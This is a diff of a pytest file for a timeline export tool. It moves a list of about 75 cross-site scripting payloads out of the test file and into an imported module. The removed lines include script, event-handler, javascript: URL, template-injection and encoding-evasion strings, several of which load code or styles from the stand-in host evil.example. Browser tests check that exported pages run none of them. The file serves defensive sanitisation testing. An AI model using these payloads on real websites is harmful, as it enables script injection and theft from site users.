@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.hostile.payloads import MARKUP
 from timeline import export
 from timeline.model import Anchor, Correction, Evidence, Section
 from timeline.model_timeline import Options
@@ -181,95 +182,15 @@ def test_nothing_overflows_a_narrow_screen(page, browse):
     assert seen["results"][1] <= 320
 
 
-HIT = "document.documentElement.dataset.hit=1;alert(1)"
-PAYLOADS = [
-    f"<script>{HIT}</script>",
-    f"<SCRIPT/x>{HIT}</SCRIPT>",
-    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
-    "<script src=https://evil.example/x.js></script>",
-    "<script src=//evil.example/x.js>",
-    f"</script><script>{HIT}</script>",
-    f"--></script><script>{HIT}</script>",
-    f"<!--<script>{HIT}//-->",
-    f"]]><script>{HIT}</script>",
-    f"</title><script>{HIT}</script>",
-    f"</style><script>{HIT}</script>",
-    f"</textarea><script>{HIT}</script>",
-    f"</noscript><img src=x onerror={HIT}>",
-    f"<img src=x onerror={HIT}>",
-    f'<img src="x" onerror="{HIT}">',
-    f"<img src=x:x onerror\n={HIT}>",
-    f"<image src=x onerror={HIT}>",
-    f"<img/src/onerror={HIT}>",
-    "<img src=https://evil.example/x.png>",
-    "<img srcset='https://evil.example/x.png 1x'>",
-    f"<svg onload={HIT}>",
-    f"<svg/onload={HIT}//",
-    f"<svg><script>{HIT}</script></svg>",
-    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
-    "<svg><use href='https://evil.example/x.svg#x'/></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
-    f"<math href=javascript:{HIT}>x</math>",
-    f"<body onload={HIT}>",
-    f"<body onpageshow={HIT}>",
-    f"<iframe src=javascript:{HIT}>",
-    f'<iframe srcdoc="<script>parent.{HIT}</script>">',
-    "<iframe src=https://evil.example>",
-    f"<object data=javascript:{HIT}>",
-    "<embed src=https://evil.example/x.swf>",
-    f"<video src=x onerror={HIT}>",
-    f"<video><source onerror={HIT}></video>",
-    f"<audio src=x onerror={HIT}>",
-    f"<details open ontoggle={HIT}>",
-    f"<marquee onstart={HIT}>",
-    f"<input autofocus onfocus={HIT}>",
-    f"<select autofocus onfocus={HIT}>",
-    f"<form action=javascript:{HIT}><button>x</button></form>",
-    f"<button formaction=javascript:{HIT} autofocus onfocus={HIT}>x",
-    "<form action=https://evil.example><input name=q>",
-    f"<a href=javascript:{HIT} id=x>x</a>",
-    f"<a href='&#106;avascript:{HIT}'>x</a>",
-    f"<a href=' java\tscript:{HIT}'>x</a>",
-    f"<a href=data:text/html,<script>{HIT}</script>>x</a>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<style>*{background:url(https://evil.example/x.png)}</style>",
-    f'" onmouseover="{HIT}" autofocus onfocus="{HIT}',
-    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}",
-    f"` onload=`{HIT}",
-    f'x" style=animation-name:x onanimationstart={HIT}//',
-    f"&lt;img src=x onerror={HIT}&gt;",
-    f"&#60;script&#62;{HIT}&#60;/script&#62;",
-    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
-    f"%3Cscript%3E{HIT}%3C/script%3E",
-    f"javascript:{HIT}",
-    f"https://evil.example/?q=<script>{HIT}</script>",
-    "https://evil.example;script-src/*",
-    "https://evil.example/x.png www.evil.example",
-    f"${{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}} <%={HIT}%>",
-    f"$title ${{js}} $$ {{0.__class__}} %s {HIT}",
-    f"\u2028{HIT}\u2029",
-    f"<\x00script>{HIT}</\x00script>",
-    f"\ufeff<script>{HIT}</script>",
-    f"<script\u0000>{HIT}</script>",
-    "__proto__",
-    "<template><script>alert(1)</script></template><slot>",
-    f"<x-y onclick={HIT} tabindex=1 autofocus onfocus={HIT}>",
-]
-
-
 def test_there_are_enough_payloads():
-    assert len(set(PAYLOADS)) >= 60
+    assert len(set(MARKUP)) >= 60
 
 
 @pytest.fixture
 def hostile(make, make_document, gather, dist, tmp_path):
     """A timeline whose every text is a payload, one an event, exported with pictures."""
     events, documents = [], []
-    for n, payload in enumerate(PAYLOADS):
+    for n, payload in enumerate(MARKUP):
         anchor = Anchor(payload, "day", "text", payload, "Europe/Paris")
         document = make_document(
             id=f"d{n}", text=f"{payload} 1789 {payload}", title=payload, source=payload, url=payload,
@@ -285,14 +206,14 @@ def hostile(make, make_document, gather, dist, tmp_path):
         )  # fmt: skip
         event.evidence = [Evidence(0, len(payload), payload, payload, payload), *event.evidence]
         events.append(event)
-    timeline = gather(events, documents=documents, generator=PAYLOADS[0])
+    timeline = gather(events, documents=documents, generator=MARKUP[0])
     every = tuple(name for name in export.exporters() if name != "timeml")
-    export.write(timeline, tmp_path, Options(formats=every, timelinejs=dist, title=PAYLOADS[5], media=True))
+    export.write(timeline, tmp_path, Options(formats=every, timelinejs=dist, title=MARKUP[5], media=True))
     return tmp_path
 
 
 VISIT = (
-    f"(async () => {{ for (let n = 0; n < {len(PAYLOADS)}; n += 1) {{ timeline.goToId('e-' + n);"
+    f"(async () => {{ for (let n = 0; n < {len(MARKUP)}; n += 1) {{ timeline.goToId('e-' + n);"
     " await new Promise(r => setTimeout(r, 20)) } })()"
 )
 LEFT = "[document.documentElement.dataset.hit ?? null, location.protocol]"
@@ -306,7 +227,7 @@ def test_hostile_documents_run_nothing_in_the_page(hostile, browse):
     # only pictures were asked for, and by --media alone
     assert all(asked.startswith("file:") or asked.startswith("https://evil.example/") for asked in seen["requests"])
     assert not any(asked.endswith((".js", ".css", ".svg", ".swf")) and "evil" in asked for asked in seen["requests"])
-    assert seen["results"][-2:] == [len(PAYLOADS) + 1, [None, "file:"]]
+    assert seen["results"][-2:] == [len(MARKUP) + 1, [None, "file:"]]
 
 
 def test_hostile_documents_run_nothing_where_no_policy_guards(hostile, browse):
@@ -325,7 +246,7 @@ def test_hostile_documents_run_nothing_where_no_policy_guards(hostile, browse):
     assert seen["dialogs"] == []
     assert seen["errors"] == []
     assert all(asked.startswith("file:") for asked in seen["requests"])
-    assert seen["results"][-2:] == [len(PAYLOADS) + 1, [None, "file:"]]
+    assert seen["results"][-2:] == [len(MARKUP) + 1, [None, "file:"]]
 
 
 def test_pictures_are_shown_on_request_only(make, make_document, gather, dist, tmp_path, browse):
